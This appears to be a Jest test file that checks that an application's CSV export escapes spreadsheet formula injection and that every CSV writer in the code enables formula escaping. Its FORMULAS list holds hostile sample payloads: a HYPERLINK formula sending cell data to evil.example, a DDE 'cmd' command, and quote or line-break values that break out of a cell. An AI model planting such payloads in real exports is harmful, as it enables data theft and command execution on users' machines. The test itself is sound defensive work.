import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import { globSync, readFileSync } from 'node:fs';
import { Actors, CookieJar } from '@rapfang/access';
import { ExportService } from '@rapfang/privacy';
import { newId, RequestLoaders } from '@rapfang/platform';
import { submit } from '../harness/operations.js';
import { startTestServer, type TestServer } from '../harness/server.js';

/** What a spreadsheet would run, or take as another cell or line. */
const FORMULAS = [
  '=HYPERLINK("https://evil.example/?"&A1,"ดูรายละเอียด")',
  "=cmd|'/c calc'!A1",
  '+1+1+cmd',
  '-2+3+cmd',
  '@SUM(1+1)*cmd',
  '\t=1+1 หลังแท็บ',
  '＝1+1 เต็มความกว้าง',
  'ปกติ","=1+1',
  'ปกติ\r\n=1+1',
];
const DANGEROUS = /^[=+\-@\t\r\uFF0B\uFF0D\uFF1D\uFF20]/;

/** RFC 4180, as a spreadsheet reads it. */
function cellsOf(csv: string): string[][] {
  const rows: string[][] = [[]];
  const pattern = /(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n|\n|$)/g;
  for (const [, quoted, plain, end] of csv.replace(/^\uFEFF/, '').matchAll(pattern)) {
    rows.at(-1)?.push(quoted === undefined ? (plain ?? '') : quoted.replaceAll('""', '"'));
    if (end === '\r\n' || end === '\n') rows.push([]);
    if (end === '') break;
  }
  return rows.filter((row) => row.length > 1);
}

describe('Formulas in exports', () => {
  let test: TestServer;
  beforeAll(async () => {
    test = await startTestServer({ RATE_LIMITS: 'off' });
  });
  afterAll(() => test.stop());

  it('come out of a download as text: no cell begins as a formula, and none breaks out of its cell', async () => {
    const guest = test.client();
    for (const body of FORMULAS) await submit(guest, 's1.p1.2', body, { displayName: '=1+1' });
    const actor = await test.server.app
      .get(Actors)
      .fromCookies(new CookieJar(Object.fromEntries(guest.cookies), false));
    const ctx = { actor, requestId: newId(), address: '127.0.0.1', loaders: new RequestLoaders() };
    let csv = '';
    for await (const piece of await test.server.app
      .get(ExportService, { strict: false })
      .open(ctx, { format: 'csv' }))
      csv += piece;
    const [head, ...rows] = cellsOf(csv);
    expect(rows).toHaveLength(FORMULAS.length);
    expect(rows.map((row) => row.length)).toEqual(rows.map(() => head?.length));
    expect(rows.flat().filter((cell) => DANGEROUS.test(cell))).toEqual([]);
    // Nothing is lost by it: behind the mark that makes it text, each formula stands as it was said.
    for (const body of FORMULAS.slice(0, 5)) expect(rows.flat()).toContain(`'${body}`);
  });

  it('have no way into any file of ours: whoever writes CSV escapes them', () => {
    const writers = globSync('{apps,libs,prisma-free-db}/**/*.ts', {
      exclude: (name) => ['node_modules', 'build', 'dist', '.svelte-kit'].includes(name),
    }).filter((file) => /from 'csv-stringify/.test(readFileSync(file, 'utf8')));
    expect(writers.length).toBeGreaterThan(1);
    const careless = writers.filter((file) => {
      const source = readFileSync(file, 'utf8').replace(/JSON\.stringify/g, '');
      const calls = source.match(/\bstringify\(/g)?.length ?? 0;
      return calls === 0 || !/escape_formulas: true/.test(source);
    });
    expect(careless).toEqual([]);
    const byHand = globSync('{apps/api,apps/web/src,libs}/**/*.ts', {
      exclude: (name) => ['node_modules', 'build', 'dist', '.svelte-kit'].includes(name),
    }).filter((file) => {
      const source = readFileSync(file, 'utf8');
      return /text\/csv/.test(source) && !/csv-stringify|exportData/.test(source) && !/spec/.test(file);
    });
    expect(byHand).toEqual([]);
  });
});
